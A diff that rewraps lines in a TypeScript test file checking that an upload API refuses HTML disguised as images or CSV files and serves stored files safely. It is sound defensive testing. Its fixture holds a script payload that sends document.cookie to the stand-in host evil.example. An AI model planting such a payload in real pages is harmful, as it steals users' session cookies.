@@ -7,16 +7,26 @@ let seller: string;
 
 // The smallest valid PNG (1×1, transparent).
 const png = Uint8Array.from(
-  Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=', 'base64'),
+  Buffer.from(
+    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
+    'base64',
+  ),
 );
-const html = new TextEncoder().encode('<!doctype html><script>fetch("https://evil.example/?c="+document.cookie)</script>');
+const html = new TextEncoder().encode(
+  '<!doctype html><script>fetch("https://evil.example/?c="+document.cookie)</script>',
+);
 
-const message = async (res: Response) => ((await res.json()) as { error: { message: string } }).error.message;
+const message = async (res: Response) =>
+  ((await res.json()) as { error: { message: string } }).error.message;
 
 async function uploadImage(bytes: Uint8Array, name: string, type: string) {
   const form = new FormData();
   form.set('file', new File([bytes as Uint8Array<ArrayBuffer>], name, { type }));
-  return sb.request('POST', '/api/upload/v1/upload/image', { token: seller, multipart: form, headers: { 'user-id': '1' } });
+  return sb.request('POST', '/api/upload/v1/upload/image', {
+    token: seller,
+    multipart: form,
+    headers: { 'user-id': '1' },
+  });
 }
 
 beforeAll(async () => {
@@ -32,14 +42,18 @@ describe('uploaded files', () => {
   it('refuses HTML declared as an image', async () => {
     const res = await uploadImage(html, 'foto.png', 'image/png');
     expect(res.status).toBe(400);
-    expect(await message(res)).toBe("Kolom 'file' harus berupa gambar PNG, JPEG, WebP atau GIF (isi berkas bukan gambar).");
+    expect(await message(res)).toBe(
+      "Kolom 'file' harus berupa gambar PNG, JPEG, WebP atau GIF (isi berkas bukan gambar).",
+    );
   });
 
   it('stores a real image under an unguessable id and serves it as that image, with nosniff', async () => {
     const res = await uploadImage(png, 'foto.gif', 'image/gif');
     expect(res.status).toBe(201);
     const url = ((await res.json()) as { data: { url: string } }).data.url;
-    expect(url).toMatch(/^\/media\/upload\/[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[0-9a-f]{4}-[0-9a-f]{12}$/);
+    expect(url).toMatch(
+      /^\/media\/upload\/[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[0-9a-f]{4}-[0-9a-f]{12}$/,
+    );
     const served = await sb.request('GET', url);
     expect(served.status).toBe(200);
     // The type comes from the bytes (PNG), not from the declared image/gif.
@@ -67,31 +81,56 @@ describe('uploaded files', () => {
   });
 
   it('refuses an HTML file named .csv in a bulk upload', async () => {
-    await expect(createBulkFile(sb.database.db, 101, 1, new File([html], 'evil.csv', { type: 'text/html' }), 'product-model')).rejects.toThrow(
+    await expect(
+      createBulkFile(
+        sb.database.db,
+        101,
+        1,
+        new File([html], 'evil.csv', { type: 'text/html' }),
+        'product-model',
+      ),
+    ).rejects.toThrow(
       "Kolom 'file' bukan CSV yang valid: baris pertama harus berisi nama kolom yang dipisahkan koma.",
     );
   });
 
   it('refuses plain text named .csv with a reason instead of "0 dari 0 baris"', async () => {
     const text = new TextEncoder().encode('ini hanya catatan belanja\nbukan tabel\n');
-    await expect(createBulkFile(sb.database.db, 101, 1, new File([text], 'catatan.csv'), 'product-model')).rejects.toThrow(
+    await expect(
+      createBulkFile(sb.database.db, 101, 1, new File([text], 'catatan.csv'), 'product-model'),
+    ).rejects.toThrow(
       "Kolom 'file' bukan CSV yang valid: baris pertama harus berisi nama kolom yang dipisahkan koma.",
     );
   });
 
   it('refuses a PNG named .xlsx', async () => {
-    await expect(createBulkFile(sb.database.db, 101, 1, new File([png as Uint8Array<ArrayBuffer>], 'produk.xlsx'), 'product-model')).rejects.toThrow(
-      "Kolom 'file' bukan berkas Excel .xlsx yang valid.",
-    );
+    await expect(
+      createBulkFile(
+        sb.database.db,
+        101,
+        1,
+        new File([png as Uint8Array<ArrayBuffer>], 'produk.xlsx'),
+        'product-model',
+      ),
+    ).rejects.toThrow("Kolom 'file' bukan berkas Excel .xlsx yang valid.");
   });
 
   it('serves a stored non-image as a download, never as HTML', async () => {
     const csv = new TextEncoder().encode('sku,nama\nA-1,Kemeja\n');
-    const queued = await createBulkFile(sb.database.db, 101, 1, new File([csv], 'produk.csv', { type: 'text/html' }), 'product-model');
+    const queued = await createBulkFile(
+      sb.database.db,
+      101,
+      1,
+      new File([csv], 'produk.csv', { type: 'text/html' }),
+      'product-model',
+    );
     expect(queued.status).toBe('queued');
     const { one } = await import('../src/db/query.js');
     const { sql } = await import('drizzle-orm');
-    const row = await one<{ public_id: string; content_type: string }>(sb.database.db, sql`SELECT public_id, content_type FROM uploads WHERE file_name = 'produk.csv' ORDER BY id DESC LIMIT 1`);
+    const row = await one<{ public_id: string; content_type: string }>(
+      sb.database.db,
+      sql`SELECT public_id, content_type FROM uploads WHERE file_name = 'produk.csv' ORDER BY id DESC LIMIT 1`,
+    );
     expect(row?.content_type).toBe('text/csv; charset=utf-8');
     const served = await sb.request('GET', `/media/upload/${row!.public_id}`);
     expect(served.headers.get('content-type')).toBe('text/csv; charset=utf-8');
@@ -100,7 +139,11 @@ describe('uploaded files', () => {
   });
 
   it('answers 413 for an image body above the documented 2 MB', async () => {
-    const res = await uploadImage(new Uint8Array(2 * 1024 * 1024 + 32 * 1024), 'besar.png', 'image/png');
+    const res = await uploadImage(
+      new Uint8Array(2 * 1024 * 1024 + 32 * 1024),
+      'besar.png',
+      'image/png',
+    );
     expect(res.status).toBe(413);
     expect(await message(res)).toBe('Ukuran permintaan melebihi batas 2 MB.');
   });
